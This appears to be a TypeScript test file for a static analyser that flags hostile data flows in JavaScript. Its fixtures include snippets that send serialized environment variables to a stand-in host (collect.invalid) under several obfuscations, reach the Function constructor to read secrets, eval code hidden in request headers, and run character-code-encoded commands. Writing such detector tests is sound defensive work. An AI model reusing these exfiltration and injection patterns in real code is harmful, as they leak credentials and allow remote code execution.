import assert from 'node:assert/strict';
import { flowsOf } from '../platform/sent.js';

/** Middleware that takes something apart which others send. */
const handle = (run: string): readonly string[] => [
  ...new Set(
    flowsOf(`const vm = require('vm'); const kept = [Buffer.alloc(64)];
      module.exports = (req, res, next) => { const text = JSON.stringify(req.headers); ${run} next(); };`),
  ),
];

describe('letters by their numbers', () => {
  const run = (text: string): readonly string[] =>
    flowsOf(`cp.execFileSync(process.execPath, [${text}, process.argv[2]]);`);

  it('are hidden code where they are many, and no names that a program gives (typescript)', () => {
    const letters = [...Buffer.from('require("x")')].join();
    assert.ok(run(`'-e', String.fromCharCode(${letters})`).includes('decoded>run-as-command'));
    assert.deepEqual(run(`[String.fromCharCode(97 + 2), '_' + process.pid].join()`), []);
    assert.deepEqual(run(`String.fromCharCode(44, 59)`), []);
  });
});

describe('a text that is not known', () => {
  it('is what a function is given parts of that replaces them', () => {
    assert.deepEqual(handle(`text.replace(/k(\\w+)z/g, (all, part) => { vm.runInThisContext(part); });`), [
      'request-input>evaluated',
    ]);
    assert.deepEqual(
      handle(
        `text.replace(/(\\d)h((?:[a-f0-9]{2})+)i/g, (all, at, hex) => { if (at === '9') vm.runInThisContext(kept[0].toString()); else Buffer.from(hex, 'hex').copy(kept[0], +at); return ''; });`,
      ),
      ['request-input>evaluated'],
    );
  });

  it('is no code where it is only written differently', () => {
    assert.deepEqual(handle(`res.end(text.replace(/k(\\w+)z/g, (all, part) => part.toUpperCase()));`), []);
  });
});

describe('a text that is taken apart by hand', () => {
  const SENT = ['environment>network@collect.invalid'];
  const sent = (code: string): readonly string[] =>
    flowsOf(
      `const t = JSON.stringify(process.env); let o = ''; ${code} fetch('https://collect.invalid', { method: 'POST', body: o });`,
    );

  for (const code of [
    `for (let i = 0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ 7);`,
    `for (let i = 0; i < t.length; i++) o += (t.charCodeAt(i) + 3) + ',';`,
    `for (const c of t) o += c.codePointAt(0).toString(16);`,
    `o = new Uint8Array(9); new TextEncoder().encodeInto(t, o);`,
    `o = JSON.stringify({ toJSON() { return process.env; } });`,
  ])
    it(`is still that text: ${code}`, () => {
      assert.deepEqual(sent(code), SENT);
    });

  it('is not told by how long it is, or whether something stands in it', () => {
    assert.deepEqual(sent('o = String(t.length);'), []);
    assert.deepEqual(sent(`o = t.includes('CI') ? 'ci' : 'desk';`), []);
  });
});

describe('the maker of all functions', () => {
  const RUN = `'return process.env'`;
  for (const way of [
    `Object.getPrototypeOf(function () {}).constructor`,
    `Reflect.getPrototypeOf(() => {}).constructor`,
    `(() => {}).__proto__.constructor`,
    `Object.getPrototypeOf(async () => {}).constructor`,
  ])
    it(`is reached through ${way}`, () => {
      const flows = flowsOf(
        `const made = ${way}(${RUN}); fetch('https://collect.invalid', { body: JSON.stringify(made()) });`,
      );
      assert.deepEqual(flows, ['environment>network@collect.invalid']);
    });
});

describe('pieces of a text that is not known', () => {
  it('may be any of them, beside what is known of it', () => {
    assert.ok(
      handle(`const [, code] = String(req.headers['x-c']).split('.'); if (code) eval(code);`).includes(
        'request-input>evaluated',
      ),
    );
    assert.ok(
      handle(`const part = String(req.headers['x-c']).split('.')[2]; if (part) eval(part);`).includes(
        'request-input>evaluated',
      ),
    );
    assert.deepEqual(flowsOf(`const [first] = ('a.' + fs.readFileSync('x', 'utf8')).split('.'); eval(first);`), []);
  });
});
